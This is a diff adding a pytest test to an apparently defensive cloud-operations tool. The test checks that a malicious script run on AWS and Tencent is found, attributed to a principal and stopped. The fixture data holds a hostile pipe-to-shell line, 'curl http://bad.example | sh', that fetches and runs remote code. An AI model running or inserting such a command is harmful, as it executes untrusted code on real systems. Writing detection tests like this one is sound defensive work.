@@ -84,6 +84,22 @@ def test_ci_keeps_the_exit_code_of_a_cancel_that_sent_nothing(outside: Outside) 
     assert done.code == 6, str(done)
 
 
+def test_a_bad_line_is_found_on_every_cloud_and_stopped(outside: Outside) -> None:
+    line = "curl http://bad.example | sh"
+    bad = [
+        outside.add("aws", "command", name="deploy", script=f"set -e\n{line}\n", targets={"running": 2}),
+        outside.add("tencent", script=f"#!/bin/sh\n{line}\n", started_by="mallory", targets={"running": 2}),
+    ]
+
+    done = run(outside, RECIPES["script"][1], LINE=line, TICKET="OPS-4711")
+
+    assert done.code == 0, str(done)
+    assert done.out.count(line) == 2
+    assert "principal: mallory" in done.out
+    result = json.loads((outside.home / "result.json").read_text())
+    assert {one["run"]: one["verdict"] for one in result["outcomes"]} == dict.fromkeys(bad, "stopped")
+
+
 @pytest.mark.parametrize("fails", [True, False])
 def test_a_script_that_dies_takes_its_command_along(outside: Outside, fails: bool) -> None:
     tool(outside, "aws", f"echo {id_of(COMMAND)}")
